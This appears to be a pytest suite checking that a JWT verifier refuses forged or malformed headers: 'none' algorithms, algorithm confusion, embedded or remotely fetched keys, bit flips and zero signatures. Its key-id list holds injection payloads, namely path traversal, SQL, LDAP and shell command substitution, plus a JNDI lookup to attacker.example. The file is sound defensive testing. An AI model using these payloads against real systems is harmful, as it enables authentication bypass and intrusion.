"""A token's own header decides how it is verified (RFC 8725 sections 3.1, 3.9, 3.10 and 3.11).

Each header here is correctly signed with the app's own key, unless the test says otherwise: only
what it says can be the reason for the refusal.
"""

import json
import socket
from typing import Any

import pytest
from jwt import get_algorithm_by_name

from ..signing import ALGORITHM, KEY, STRANGERS_KEY
from .conftest import Target
from .forge import ABSENT, Genuine, Raw, decode, encode, sign, to_json

WRONG_TYPES = {
    "missing": ABSENT,
    "null": None,
    "true": True,
    "number": 5,
    "NaN": Raw("NaN"),
    "object": {},
    "list": [],
    "empty": "",
    "surrogate": Raw(r'"\ud800"'),
}
"""What none of the members that count may be."""

NO_ALGORITHM = ["none", "None", "NONE", "nOnE", "none ", " none", "none\u0000", "NoNe", "n\uff4fne"]
OTHER_ALGORITHMS = {
    *("HS256", "HS384", "HS512", "RS256", "RS384", "RS512", "PS256", "PS384", "PS512"),
    *("ES256", "ES384", "ES512", "ES256K", "EdDSA", "Ed25519", "Ed448"),
    *("HS", "HS255", "HMAC", "dir", "A128KW", "RSA-OAEP", "PBES2-HS256+A128KW"),
    *(ALGORITHM.swapcase(), f" {ALGORITHM}", f"{ALGORITHM} ", f"{ALGORITHM},none"),
} - {ALGORITHM}
OTHER_TYPES = [
    *("JWT", "jwt", "at", "jwt+at", "at+jwt ", " at+jwt", "at+jwt,JWT", "at-jwt", "at+jwt\u0000"),
    *("rt+jwt", "refresh", "id_token", "logout+jwt", "dpop+jwt", "secevent+jwt", "JOSE", "JWE"),
    *("application/jwt", "text/at+jwt", "application/application/at+jwt", "at+jwt; v=1"),
]
OTHER_KEY_IDS = {
    "unknown": "unknown",
    "a-space-more": f"{KEY.kid} ",
    "a-NUL-more": f"{KEY.kid}\u0000",
    "a-part-of-it": KEY.kid[:-1],
    "other-case": KEY.kid.swapcase(),
    "in-a-list": [KEY.kid],
    "in-an-object": {"kid": KEY.kid},
    "index": "0",
    "wildcard": "*",
    "None": "None",
    "dunder": "__class__",
    "empty-file": "../../../../../../dev/null",
    "absolute-path": "/dev/null",
    "key-file": "keys/signing.pem",
    "windows-path": "..\\..\\windows\\win.ini",
    "file-url": "file:///dev/null",
    "url": "https://attacker.example/key",
    "SQL": "' UNION SELECT 'key' --",
    "SQL-or": "x' OR '1'='1",
    "LDAP": "*)(kid=*",
    "shell": "$(cat /dev/null)",
    "pipe": "|cat /dev/null",
    "format": "%s%n{0}",
    "expression": "$" + "{jndi:ldap://attacker.example}",
    "long": "k" * 4000,
}
EMBEDDED_KEY: dict[str, Any] = get_algorithm_by_name(ALGORITHM).to_jwk(
    STRANGERS_KEY.verification.material, as_dict=True
)


def as_text(name: object) -> str:
    """Return a readable id for a parameter."""
    return ascii(name).strip("'") or "empty"


def test_an_unaltered_token_signed_by_hand_is_accepted(target: Target) -> None:
    target.assert_accepted(target.genuine.token)
    target.assert_accepted(target.genuine.altered())


@pytest.mark.parametrize("typ", ["at+jwt", "AT+JWT", "application/at+jwt", "Application/At+JWT"])
def test_the_type_is_a_media_type_in_any_case(target: Target, typ: str) -> None:
    """RFC 7515 section 4.1.9: these are the same."""
    target.assert_accepted(target.genuine.altered(header={"typ": typ}))


def test_unknown_members_are_ignored(target: Target) -> None:
    target.assert_accepted(target.genuine.altered(header={"unknown": {"of": ["no", "importance"]}}))


@pytest.mark.parametrize("member", ["alg", "kid", "typ"])
@pytest.mark.parametrize("wrong", WRONG_TYPES)
def test_a_member_of_a_wrong_type_is_refused(target: Target, member: str, wrong: str) -> None:
    target.assert_refused(target.genuine.altered(header={member: WRONG_TYPES[wrong]}))


@pytest.mark.parametrize("signature", ["no", "empty", "good", "zero"])
@pytest.mark.parametrize("name", NO_ALGORITHM, ids=as_text)
def test_an_unsigned_token_is_refused(target: Target, name: str, signature: str) -> None:
    """RFC 8725 section 3.2."""
    head, payload, good = target.genuine.altered(header={"alg": name}).split(".")
    zeros = encode(bytes(len(decode(good))))
    signatures = {"no": "", "empty": ".", "good": f".{good}", "zero": f".{zeros}"}
    target.assert_refused(f"{head}.{payload}{signatures[signature]}")


@pytest.mark.parametrize("name", sorted(OTHER_ALGORITHMS), ids=as_text)
def test_another_algorithm_than_the_keys_is_refused(target: Target, name: str) -> None:
    target.assert_refused(target.genuine.altered(header={"alg": name}))


@pytest.mark.parametrize("typ", OTHER_TYPES, ids=as_text)
def test_another_type_is_refused(target: Target, typ: str) -> None:
    """RFC 9068 section 4: what is no access token is not taken for one."""
    target.assert_refused(target.genuine.altered(header={"typ": typ}))


@pytest.mark.parametrize("name", OTHER_KEY_IDS)
def test_another_key_id_is_refused(target: Target, name: str) -> None:
    """RFC 8725 section 3.10: `kid` is looked up among the app's keys, and nowhere else."""
    target.assert_refused(target.genuine.altered(header={"kid": OTHER_KEY_IDS[name]}))


@pytest.mark.parametrize("secret", [b"", b"\0", b"\n", b"null", b"None"])
@pytest.mark.parametrize("name", ["empty-file", "absolute-path", "SQL", "unknown"])
def test_a_key_id_that_leads_to_a_known_secret_is_refused(
    target: Target, name: str, secret: bytes
) -> None:
    header = {"alg": "HS256", "kid": OTHER_KEY_IDS[name]}
    target.assert_refused(target.genuine.altered(header=header, key=secret, algorithm="HS256"))


@pytest.mark.parametrize("kid", [KEY.kid, STRANGERS_KEY.kid, "unknown", None, ABSENT])
def test_a_strangers_signature_is_refused(target: Target, kid: object) -> None:
    """RFC 8725 section 3.3."""
    target.assert_refused(target.genuine.altered(header={"kid": kid}, key=STRANGERS_KEY.material))


def test_the_own_signature_under_a_strangers_key_id_is_refused(target: Target) -> None:
    target.assert_refused(target.genuine.altered(header={"kid": STRANGERS_KEY.kid}))


@pytest.mark.parametrize("kid", [KEY.kid, STRANGERS_KEY.kid, "embedded", ABSENT])
@pytest.mark.parametrize(
    "embedded",
    [
        {"jwk": {**EMBEDDED_KEY, "kid": "embedded"}},
        {"jwk": {**EMBEDDED_KEY, "kid": KEY.kid, "alg": ALGORITHM, "use": "sig"}},
        {"jwk": json.dumps(EMBEDDED_KEY)},
        {"jwks": {"keys": [EMBEDDED_KEY]}},
        {"x5c": ["MIIBszCCARygAwIBAgIBADANBgkqhkiG9w0BAQUFADAA"]},
        {"x5t": "dGh1bWJwcmludA", "x5t#S256": "dGh1bWJwcmludA"},
    ],
    ids=["jwk", "jwk-of-the-own-name", "jwk-in-text", "jwks", "x5c", "x5t"],
)
def test_an_embedded_key_is_not_used(target: Target, embedded: dict[str, Any], kid: object) -> None:
    """RFC 8725 section 3.10, and ASVS 5.0 9.1.3: the key never comes along with the token."""
    header = {**embedded, "kid": kid}
    target.assert_refused(target.genuine.altered(header=header, key=STRANGERS_KEY.material))


@pytest.mark.parametrize("kid", [KEY.kid, "unknown", ABSENT])
@pytest.mark.parametrize("member", ["jku", "x5u", "kid", "jwks_uri"])
def test_no_key_is_fetched_from_where_a_token_says(
    target: Target, member: str, kid: object
) -> None:
    """RFC 8725 section 3.10: nor does a token make the app send requests."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        url = f"http://127.0.0.1:{listener.getsockname()[1]}/jwks.json"
        header = {"kid": kid, member: url}
        target.assert_refused(target.genuine.altered(header=header, key=STRANGERS_KEY.material))
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):
            listener.accept()


@pytest.mark.parametrize(
    "header",
    [
        {"crit": ["unknown"], "unknown": True},
        {"crit": ["unknown"]},
        {"crit": ["exp"], "exp": 9999999999},
        {"crit": ["exp", "unknown"]},
        {"crit": ["kid"]},
        {"crit": []},
        {"crit": "exp"},
        {"crit": None},
        {"crit": {}},
        {"crit": [5]},
        {"crit": [["exp"]]},
        {"crit": ["b64"], "b64": False},
        {"crit": ["b64", "unknown"], "b64": True},
        {"b64": False},
    ],
    ids=str,
)
def test_an_extension_that_must_be_understood_is_refused(
    target: Target, header: dict[str, Any]
) -> None:
    """RFC 7515 section 4.1.11; RFC 7797 section 7 keeps `b64` out of JWTs."""
    target.assert_refused(target.genuine.altered(header=header))


@pytest.mark.parametrize("crit", [{}, {"crit": ["b64"]}], ids=["alone", "critical"])
@pytest.mark.parametrize("attached", [True, False])
def test_an_unencoded_payload_is_refused(
    target: Target, crit: dict[str, Any], attached: bool
) -> None:
    """RFC 7797 section 7: signed over the payload as it is, which here may hold no dot."""
    header = encode(to_json({**target.genuine.header, **crit, "b64": False}))
    payload = to_json(target.genuine.claims)
    signature = get_algorithm_by_name(ALGORITHM).sign(
        header.encode() + b"." + payload, KEY.material
    )
    body = encode(payload) if attached else ""
    target.assert_refused(f"{header}.{body}.{encode(signature)}")


@pytest.mark.parametrize("member", ["alg", "kid", "typ"])
def test_of_two_members_of_one_name_the_last_counts(target: Target, member: str) -> None:
    """RFC 7515 section 4: for every reader of the header it is the same one."""
    good = to_json(target.genuine.header).decode()
    pair = f'"{member}":"{target.genuine.header[member]}"'
    assert pair in good
    escaped = f'"\\u{ord(member[0]):04x}{member[1:]}":"none"'
    target.assert_accepted(
        sign(good.replace(pair, f'"{member}":"none",{pair}').encode(), claims(target))
    )
    for wrong in (f'"{member}":"none"', escaped):
        target.assert_refused(sign(good.replace(pair, f"{pair},{wrong}").encode(), claims(target)))


def claims(target: Target) -> dict[str, Any]:
    return target.genuine.claims


@pytest.mark.parametrize("position", [0, 1, 2], ids=["header", "payload", "signature"])
def test_no_bit_can_be_flipped(target: Target, position: int) -> None:
    """RFC 7515 section 5.2: the signature covers all of it, and all of it is compared."""
    parts = target.genuine.parts
    part = decode(parts[position])
    for index in range(len(part)):
        flipped = bytearray(part)
        flipped[index] ^= 1 << index % 8
        forged = [*parts[:position], encode(bytes(flipped)), *parts[position + 1 :]]
        target.assert_refused(".".join(forged))


@pytest.mark.parametrize("kept", [0, 1, 8, 16, 31, -1])
def test_a_truncated_signature_is_refused(target: Target, kept: int) -> None:
    head, payload, signature = target.genuine.parts
    target.assert_refused(f"{head}.{payload}.{encode(decode(signature)[:kept])}")


@pytest.mark.parametrize("more", [b"\0", b"\0" * 32, b"x"])
def test_a_lengthened_signature_is_refused(target: Target, more: bytes) -> None:
    head, payload, signature = target.genuine.parts
    target.assert_refused(f"{head}.{payload}.{encode(decode(signature) + more)}")
    target.assert_refused(f"{head}.{payload}.{encode(more + decode(signature))}")


@pytest.mark.parametrize("value", [0, 255])
def test_a_signature_of_equal_bytes_is_refused(target: Target, value: int) -> None:
    """For ES256 this is CVE-2022-21449: a signature of zeros that fits everything."""
    head, payload, signature = target.genuine.parts
    forged = bytes([value]) * len(decode(signature))
    target.assert_refused(f"{head}.{payload}.{encode(forged)}")


def test_parts_of_two_good_tokens_do_not_make_a_third(target: Target) -> None:
    ada, ben = target.genuine.parts, target.bens.parts
    target.assert_refused(f"{ada[0]}.{ada[1]}.{ben[2]}")
    target.assert_refused(f"{ada[0]}.{ben[1]}.{ada[2]}")


def test_a_genuine_token_is_as_a_token_should_be(target: Target) -> None:
    """No personal data in it, either: who holds it can read it (RFC 9068 section 6)."""
    genuine: Genuine = target.genuine
    assert genuine.header == {"alg": ALGORITHM, "kid": KEY.kid, "typ": "at+jwt"}
    assert {"sub", "sid", "jti", "exp", "iat", "iss", "aud"} <= genuine.claims.keys()
    assert genuine.claims["exp"] - genuine.claims["iat"] <= 3600
    assert target.ada.email not in json.dumps(genuine.claims)


@pytest.mark.parametrize("part", range(2), ids=["header", "payload"])
def test_a_signed_part_has_one_encoding(target: Target, part: int) -> None:
    """RFC 4648 section 3.5: the bits of the last character that nothing is decoded from are 0."""
    members = [to_json(target.genuine.header), to_json(target.genuine.claims)]
    encoded = [encode(each + b" " * (-(len(each) + 2) % 3)) for each in members]
    target.assert_accepted(sign_parts(*encoded))
    encoded[part] = with_stray_bits(encoded[part])
    target.assert_refused(sign_parts(*encoded))


def test_the_signature_has_one_encoding(target: Target) -> None:
    """An RSA signature of 384 octets leaves no bits unused."""
    header, payload, signature = target.genuine.parts
    if len(signature) % 4:
        target.assert_refused(f"{header}.{payload}.{with_stray_bits(signature)}")


def sign_parts(header: str, payload: str) -> str:
    signed = f"{header}.{payload}"
    signature = get_algorithm_by_name(ALGORITHM).sign(signed.encode(), KEY.material)
    return f"{signed}.{encode(signature)}"


def with_stray_bits(part: str) -> str:
    """Return another text that a lax decoder reads as the same octets."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    other = part[:-1] + alphabet[alphabet.index(part[-1]) ^ 1]
    assert decode(other) == decode(part)
    return other


@pytest.mark.parametrize("value", ["DEF", "", None, False], ids=str)
def test_a_compressed_payload_is_refused(target: Target, value: object) -> None:
    """RFC 7516 section 4.1.3: `zip` is for encrypted tokens."""
    target.assert_refused(target.genuine.altered(header={"zip": value}))
